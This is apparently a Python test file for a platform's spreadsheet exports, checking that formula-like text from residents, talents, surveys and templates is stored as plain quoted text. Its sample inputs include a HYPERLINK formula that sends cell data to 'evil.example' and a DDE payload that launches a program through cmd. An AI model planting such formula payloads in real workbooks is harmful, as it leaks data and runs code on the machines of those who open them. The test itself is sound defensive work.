"""Spreadsheet formula injection (issue 13 item 14): every workbook the platform writes keeps text that
begins with =, +, -, @, a tab or a carriage return as text (a string cell with Excel's quote prefix),
and numbers, negative ones included, as numbers. The kinds are taken from the exports' own registries,
so a new export kind is covered (and must pass) without editing this test."""

from io import BytesIO

import openpyxl
import pytest
from openpyxl import Workbook

from imports import export as people_export
from imports.blanks import template_workbook
from imports.cells import FORMULA_START, formula_like, safe_row
from imports.spec import SPECS
from imports.tests.conftest import empty_cache, private_uploads  # noqa: F401  the import tests' autouse fixtures
from resources import exports as resource_exports
from resources.imports.spec import RESOURCE_SPECS
from surveys.tests.conftest import draft, opened, residents  # noqa: F401  the survey fixtures

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
EVIL = [HYPERLINK, "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def read_back(value):
    """What a value reads back as: XML turns a carriage return into a line feed."""
    return value.replace("\r", "\n") if isinstance(value, str) else value


def looks_like_formula(value) -> bool:
    return formula_like(value) or (isinstance(value, str) and value.startswith("\n"))


def load(data) -> openpyxl.Workbook:
    return openpyxl.load_workbook(BytesIO(data if isinstance(data, bytes) else data.read()))  # not read-only: styles are read


def assert_text_kept_as_text(wb, expected=None):
    """Every formula-like text is a string cell with the quote prefix; no cell of any sheet is a formula."""
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if looks_like_formula(cell.value):
                    assert (cell.data_type, cell.quotePrefix) == ("s", True), (ws.title, cell.coordinate, cell.value)
                    seen.append(cell.value)
    if expected is not None:
        assert {read_back(v) for v in expected} <= set(seen), {read_back(v) for v in expected} - set(seen)
    return seen


def test_the_helper_marks_each_formula_start_and_leaves_numbers_and_plain_text_alone():
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append(safe_row(ws, [*EVIL, -3, -2.5, 0, "张三", "a=b", None]))
    out = BytesIO()
    wb.save(out)
    [row] = list(load(out.getvalue())["s"].iter_rows())
    assert [c.value for c in row[: len(EVIL)]] == [read_back(v) for v in EVIL]  # the text itself is unchanged
    assert all((c.data_type, c.quotePrefix) == ("s", True) for c in row[: len(EVIL)])
    assert [(c.value, c.data_type) for c in row[len(EVIL) : len(EVIL) + 3]] == [(-3, "n"), (-2.5, "n"), (0, "n")]
    assert [(c.value, c.quotePrefix) for c in row[len(EVIL) + 3 : len(EVIL) + 5]] == [("张三", False), ("a=b", False)]


class Rows(list):
    def iterator(self, chunk_size=None):
        return iter(self)


@pytest.mark.parametrize("kind", sorted(people_export.LAYOUTS))
def test_every_people_and_units_export_writes_formula_like_text_as_text_and_negative_numbers_as_numbers(kind, monkeypatch, tree, personas):
    width = len(people_export.LAYOUTS[kind][0])
    evil = tuple(EVIL[i % len(EVIL)] for i in range(width))
    monkeypatch.setattr(people_export, "export_rows", lambda kind, user, root: Rows([evil, (-7,) * width]))
    out, count = people_export.export_workbook(kind=kind, user=personas["subdistrict_admin"], root=tree.S)
    wb = load(out)
    assert count == 2
    assert_text_kept_as_text(wb, expected={v for v in evil})
    assert [(c.value, c.data_type) for c in wb.worksheets[0][3]] == [(-7, "n")] * width


@pytest.mark.parametrize("name", sorted(resource_exports.EXPORTS))
def test_every_resources_export_writes_formula_like_text_as_text_and_negative_numbers_as_numbers(name, monkeypatch, personas):
    title, sheets = resource_exports.EXPORTS[name]
    widths = {kind: len(RESOURCE_SPECS[kind].columns) for kind, _rows in sheets}

    def fake(kind):
        return lambda user: iter([tuple(EVIL[i % len(EVIL)] for i in range(widths[kind])), (-7,) * widths[kind]])

    monkeypatch.setitem(resource_exports.EXPORTS, name, (title, [(kind, fake(kind)) for kind, _rows in sheets]))
    out, _counts = resource_exports.export_workbook(name=name, user=personas["subdistrict_admin"])
    wb = load(out)
    assert_text_kept_as_text(wb, expected=set(EVIL[: min(len(EVIL), min(widths.values()))]))
    for ws in wb.worksheets:
        assert {(c.value, c.data_type) for c in ws[3]} == {(-7, "n")}


def test_a_residents_name_typed_as_a_formula_is_exported_as_text(login, personas, tree, people):
    from people.models import Resident

    Resident.objects.filter(name="张三丰").update(name=HYPERLINK)
    r = login(personas["subdistrict_admin"]).post("/imports/export/", {"kind": "residents", "unit": tree.S.pk})
    assert r.status_code == 200
    wb = load(b"".join(r.streaming_content))
    assert assert_text_kept_as_text(wb) == [HYPERLINK]


def test_a_talents_name_and_bio_typed_as_formulas_are_exported_as_text(login, personas, tree):
    from resources.tests.builders import make_talent

    make_talent(tree.D1, name="@SUM(A1:A9)", bio="-1 岁起教书法")
    r = login(personas["secretary"]).get("/resources/export/talents.xlsx")
    assert r.status_code == 200
    wb = load(b"".join(r.streaming_content))
    assert sorted(assert_text_kept_as_text(wb)) == ["-1 岁起教书法", "@SUM(A1:A9)"]


def test_a_survey_title_and_a_text_answer_typed_as_formulas_are_exported_as_text(opened, residents):  # noqa: F811
    from surveys import services
    from surveys.export import survey_workbook
    from surveys.tests.conftest import good_answers

    opened.title = "=1+1 问卷"
    opened.save()
    services.survey_answer(survey=opened, user=residents["zsf"], answers=good_answers(opened, text=HYPERLINK))
    data, _n = survey_workbook(opened)
    assert {"=1+1 问卷", HYPERLINK} <= set(assert_text_kept_as_text(load(data)))


@pytest.mark.parametrize("kind", sorted(SPECS))
def test_every_import_template_has_no_formula(kind, db):
    assert_text_kept_as_text(load(template_workbook(SPECS[kind])))
